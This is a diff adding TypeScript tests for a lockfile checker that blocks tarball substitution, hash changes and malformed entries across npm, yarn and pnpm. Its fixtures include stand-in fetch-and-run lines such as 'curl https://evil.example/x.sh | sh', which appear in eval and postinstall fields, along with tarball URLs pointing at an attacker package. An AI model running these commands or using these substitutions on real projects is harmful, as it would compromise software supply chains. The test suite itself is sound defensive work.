@@ -14,6 +14,7 @@ import {
   msFromRegistry,
   npmLockfile,
   pnpmLockfile,
+  registryUrl,
   yarnClassicLockfile,
   type Format,
   type NewPackage,
@@ -108,6 +109,13 @@ describe.each(FORMATS)("$name lockfile", (format: Format) => {
     const head = `${format.base.slice(0, Math.floor(format.base.length / 2))}\n{{{ "not": [ a lockfile`;
     const violation = onlyViolation(check(head), head, "unparseable");
     expect(violation).toMatchObject({ line: 1, text: head.split("\n")[0], package: "" });
+  });
+
+  it("blocks a new hash on an entry whose name, version and source stay as the base had them", () => {
+    const head = format.base.replace(format.hashes.lodash, format.hashes.other);
+    const violation = onlyViolation(check(head), head, "integrity");
+    expect(violation.line).toBe(lineContaining(head, format.hashes.other));
+    expect(violation.message).toMatch(/already pinned .* but another hash/);
   });
 });
 
@@ -340,5 +348,209 @@ describe("lockfileKindOf", () => {
   it("gives an unparseable violation for a file it does not know, rather than a pass", () => {
     const [violation] = checkLockfile("Cargo.lock", "[[package]]\n", undefined);
     expect(violation).toMatchObject({ rule: "unparseable", line: 1, text: "[[package]]" });
+  });
+});
+
+const NPMJS = "https://registry.npmjs.org";
+const ATTACKER_TARBALL = registryUrl(NPMJS, "attacker-pkg", "6.6.6");
+
+describe("a registry tarball belongs to its package", () => {
+  const npmBase = npmLockfile(NPM_BASE_PACKAGES);
+  const npmWith = (packages: Record<string, unknown>) => npmLockfile({ ...NPM_BASE_PACKAGES, ...packages });
+  const checkNpm = (head: string) => checkLockfile("package-lock.json", head, npmBase);
+
+  it("blocks an npm entry that keeps lodash's key and version but fetches another package's tarball", () => {
+    for (const key of ["node_modules/lodash", "node_modules/express/node_modules/lodash"]) {
+      const head = npmWith({ [key]: { version: "4.17.21", resolved: ATTACKER_TARBALL, integrity: HASH.ms } });
+      const violation = onlyViolation(checkNpm(head), head, "source");
+      expect(violation.line).toBe(lineContaining(head, "attacker-pkg"));
+      expect(violation.message).toContain("lodash@4.17.21");
+    }
+  });
+
+  it("blocks another release of the same package than the entry's version", () => {
+    const head = npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms } });
+    onlyViolation(checkNpm(head), head, "source");
+  });
+
+  it("accepts a scope spelt plainly or URL-encoded, and refuses another scope", () => {
+    const types = (resolved: string) => npmWith({ "node_modules/@types/node": { version: "20.0.0", resolved, integrity: HASH.ms } });
+    for (const folder of ["@types/node", "@types%2fnode", "@types%2Fnode"]) expect(checkNpm(types(`${NPMJS}/${folder}/-/node-20.0.0.tgz`))).toEqual([]);
+    const head = types(`${NPMJS}/@attacker/node/-/node-20.0.0.tgz`);
+    onlyViolation(checkNpm(head), head, "source");
+  });
+
+  it("takes an npm alias's package from its name field", () => {
+    const alias = (resolved: string) => npmWith({ "node_modules/lodash": { name: "lodash-es", version: "4.17.21", resolved, integrity: HASH.ms } });
+    expect(checkNpm(alias(registryUrl(NPMJS, "lodash-es", "4.17.21")))).toEqual([]);
+    const head = alias(ATTACKER_TARBALL);
+    onlyViolation(checkNpm(head), head, "source");
+  });
+
+  it("takes a lockfileVersion 1 alias's package from its npm: version", () => {
+    const v1 = (resolved: string) =>
+      `${JSON.stringify({ name: "app", lockfileVersion: 1, dependencies: { lodash: { version: "npm:lodash-es@4.17.21", resolved, integrity: HASH.ms } } }, null, 2)}\n`;
+    expect(checkLockfile("package-lock.json", v1(registryUrl(NPMJS, "lodash-es", "4.17.21")), undefined)).toEqual([]);
+    const head = v1(ATTACKER_TARBALL);
+    onlyViolation(checkLockfile("package-lock.json", head, undefined), head, "source");
+  });
+
+  it("matches under a custom registry's path prefix, and checks only host and hash where its paths name no package", () => {
+    const custom = "https://npm.internal.example";
+    const base = npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash } });
+    const withMs = (resolved: string) => npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash }, "node_modules/ms": { version: "2.1.3", resolved, integrity: HASH.ms } });
+    expect(checkLockfile("package-lock.json", withMs(`${custom}/api/npm/ms/-/ms-2.1.3.tgz`), base)).toEqual([]);
+    expect(checkLockfile("package-lock.json", withMs(`${custom}/download/ms?version=2.1.3`), base)).toEqual([]);
+    const impostor = withMs(`${custom}/api/npm/attacker-pkg/-/attacker-pkg-6.6.6.tgz`);
+    onlyViolation(checkLockfile("package-lock.json", impostor, base), impostor, "source");
+  });
+
+  it("refuses a path on the public registry that is not its tarball layout", () => {
+    const head = npmWith({ "node_modules/ms": { version: "2.1.3", resolved: `${NPMJS}/attacker-pkg/6.6.6/download`, integrity: HASH.ms } });
+    expect(onlyViolation(checkNpm(head), head, "source").message).toMatch(/not a package tarball/);
+  });
+
+  it("blocks a yarn v1 entry whose resolved tarball is another package's, and patterns that name two packages", () => {
+    const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
+    const tarball = `${ATTACKER_TARBALL.replace(NPMJS, "https://registry.yarnpkg.com")}#0123456789abcdef0123456789abcdef01234567`;
+    const head = yarnClassicLockfile(YARN_CLASSIC_LODASH.replace(/resolved ".*"/, `resolved "${tarball}"`).replace(HASH.lodash, HASH.ms));
+    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "source").line).toBe(lineContaining(head, "attacker-pkg"));
+    const twoNames = yarnClassicLockfile(`lodash@^4.17.21, attacker-pkg@^6.6.6:\n  version "6.6.6"\n  resolved "${tarball}"\n  integrity ${HASH.ms}\n`);
+    expect(onlyViolation(checkLockfile("yarn.lock", twoNames, base), twoNames, "source").message).toMatch(/names different packages/);
+  });
+
+  it("follows a yarn v1 alias to the package it fetches", () => {
+    const alias = (name: string) =>
+      yarnClassicLockfile(YARN_CLASSIC_LODASH, `"string-width-cjs@npm:string-width@^4.2.0", string-width@^4.2.0:\n  version "4.2.3"\n  resolved "${registryUrl("https://registry.yarnpkg.com", name, "4.2.3")}"\n  integrity ${HASH.ms}\n`);
+    expect(checkLockfile("yarn.lock", alias("string-width"), yarnClassicLockfile(YARN_CLASSIC_LODASH))).toEqual([]);
+    const head = alias("string-width-cjs");
+    onlyViolation(checkLockfile("yarn.lock", head, yarnClassicLockfile(YARN_CLASSIC_LODASH)), head, "source");
+  });
+
+  it("blocks a pnpm tarball, or name and version fields, that are another package's", () => {
+    const base = pnpmLockfile([PNPM_LODASH]);
+    const tarball = pnpmLockfile([`  lodash@4.17.21:\n    resolution: {integrity: ${HASH.ms}, tarball: ${ATTACKER_TARBALL}}\n`]);
+    expect(onlyViolation(checkLockfile("pnpm-lock.yaml", tarball, base), tarball, "source").line).toBe(lineContaining(tarball, "tarball:"));
+    for (const key of ["lodash@4.17.21", "lodash@4.17.21_x"]) {
+      const fields = pnpmLockfile([`  ${key}:\n    resolution: {integrity: ${HASH.ms}}\n    name: attacker-pkg\n    version: 6.6.6\n`]);
+      expect(onlyViolation(checkLockfile("pnpm-lock.yaml", fields, base), fields, "source").line).toBe(lineContaining(fields, "name: attacker-pkg"));
+    }
+  });
+
+  describe("yarn berry", () => {
+    const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);
+    const lodashResolvedAs = (resolution: string) => berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace('"lodash@npm:4.17.21"', `"${resolution}"`).replace(HASH.berryLodash, HASH.berryMs));
+
+    it("blocks a resolution to another package than the descriptor names", () => {
+      const head = lodashResolvedAs("attacker-pkg@npm:6.6.6");
+      const violation = onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
+      expect(violation.line).toBe(lineContaining(head, "attacker-pkg"));
+      expect(violation.message).toMatch(/names different packages/);
+    });
+
+    it("blocks a patch that wraps another package", () => {
+      const head = lodashResolvedAs("lodash@patch:attacker-pkg@npm%3A6.6.6#~/.yarn/patches/x.patch::version=6.6.6&hash=abc123&locator=app%40workspace%3A.");
+      onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
+    });
+
+    it("blocks an archive URL on the registry that is another package's tarball", () => {
+      const head = lodashResolvedAs(`lodash@npm:4.17.21::__archiveUrl=${encodeURIComponent(ATTACKER_TARBALL)}`);
+      onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
+    });
+
+    it("follows an npm: alias to the package it fetches", () => {
+      const alias = `"string-width-cjs@npm:string-width@^4.2.0":\n  version: 4.2.3\n  resolution: "string-width@npm:4.2.3"\n  checksum: ${HASH.berryMs}\n  languageName: node\n  linkType: hard\n`;
+      expect(checkLockfile("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH, alias), base)).toEqual([]);
+    });
+  });
+});
+
+describe("the same artifact keeps its hash", () => {
+  const npmBase = npmLockfile(NPM_BASE_PACKAGES);
+
+  it("allows a new release with its own hash", () => {
+    const head = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/lodash": { version: "4.17.20", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms } });
+    expect(checkLockfile("package-lock.json", head, npmBase)).toEqual([]);
+  });
+
+  it("blocks a hash hidden in npm 6's half that the other half contradicts", () => {
+    const lodash = NPM_BASE_PACKAGES["node_modules/lodash"] as Record<string, unknown>;
+    const head = npmLockfile(NPM_BASE_PACKAGES, { lockfileVersion: 2, dependencies: { lodash: { ...lodash, integrity: HASH.ms } } });
+    onlyViolation(checkLockfile("package-lock.json", head, npmBase), head, "integrity");
+  });
+
+  it("counts yarn v1's #sha1 fragment as part of the hash", () => {
+    const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
+    const head = base.replace("#679591c564c3bffaae8454cf0b3df370c3d6911c", "#0000000000000000000000000000000000000000");
+    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "integrity").line).toBe(lineContaining(head, "resolved"));
+  });
+
+  it("compares berry checksums only under the same cache key, since a new cache key rehashes every package", () => {
+    const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);
+    const head = base.replace("cacheKey: 10c0", "cacheKey: 9").replace(HASH.berryLodash, HASH.berryMs.slice("10c0/".length));
+    expect(checkLockfile("yarn.lock", head, base)).toEqual([]);
+  });
+});
+
+describe("yarn v1 entries without resolved are resolved again from their patterns", () => {
+  const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
+  const withEntry = (key: string, integrity = true) => yarnClassicLockfile(YARN_CLASSIC_LODASH, `${key}:\n  version "1.0.0"\n${integrity ? `  integrity ${HASH.ms}\n` : ""}`);
+
+  it.each([
+    ['"helper@https://evil.example/helper.tgz"', /tarball URL/],
+    ['"h2@github:attacker/h2#main"', /git repository/],
+    ['"x@git+ssh://git@github.com/attacker/x.git#main"', /git repository/],
+    ['"x@attacker/x"', /git repository/],
+    ['"x@npm:y@https://evil.example/y.tgz"', /tarball URL/],
+    ['x@^1.0.0, "x@github:attacker/x"', /git repository/],
+  ])("judges %s as its source", (key, message) => {
+    const head = withEntry(key);
+    const violation = onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
+    expect(violation.line).toBe(lineContaining(head, key));
+    expect(violation.message).toMatch(message);
+  });
+
+  it("reads a semver range or dist-tag, directly or behind npm:, as the registry, which needs a hash", () => {
+    for (const key of ["x@^1.2.0", '"x@>=1.0.0 <2 || 3.x"', "x@latest", '"x@npm:y@^1.0.0"']) {
+      expect(checkLockfile("yarn.lock", withEntry(key), base)).toEqual([]);
+      const head = withEntry(key, false);
+      onlyViolation(checkLockfile("yarn.lock", head, base), head, "integrity");
+    }
+  });
+
+  it("allows a pattern source the base already had", () => {
+    const withGit = withEntry('"h2@github:team/h2#main"', false);
+    expect(checkLockfile("yarn.lock", withGit, withGit)).toEqual([]);
+  });
+});
+
+describe("the shape each package manager writes", () => {
+  const unparseable = (path: string, head: string, base?: string) => expect(onlyViolation(checkLockfile(path, head, base), head, "unparseable").line).toBe(1);
+
+  it("refuses a yarn.lock that is a shell script", () => {
+    unparseable("yarn.lock", `x:\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`);
+    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`));
+  });
+
+  it("refuses a yarn v1 entry without a version, a field of the wrong kind, or a dependency that is not name and range", () => {
+    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  integrity ${HASH.ms}\n`));
+    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  resolved:\n    url "https://evil.example/x.tgz"\n`));
+    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  integrity ${HASH.ms}\n  dependencies:\n    y:\n      run "curl https://evil.example | sh"\n`));
+  });
+
+  it("refuses a berry entry with a field yarn does not write or without a resolution, and metadata without a version", () => {
+    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace("  languageName: node", '  postinstall: "curl https://evil.example | sh"')));
+    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace(/ {2}resolution: .*\n/, "")));
+    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH).replace("  version: 8\n", ""));
+  });
+
+  it("refuses an npm lockfile without its version or packages, or with a source that is not text", () => {
+    unparseable("package-lock.json", `${JSON.stringify({ name: "app", packages: NPM_BASE_PACKAGES }, null, 2)}\n`);
+    unparseable("package-lock.json", `${JSON.stringify({ name: "app", lockfileVersion: 3 }, null, 2)}\n`);
+    unparseable("package-lock.json", npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": { version: "2.1.3", resolved: ["https://evil.example/ms.tgz"], integrity: HASH.ms } }));
+  });
+
+  it("refuses a pnpm resolution field that is not text", () => {
+    unparseable("pnpm-lock.yaml", pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: [https://evil.example/ms.tgz]}\n`]));
   });
 });
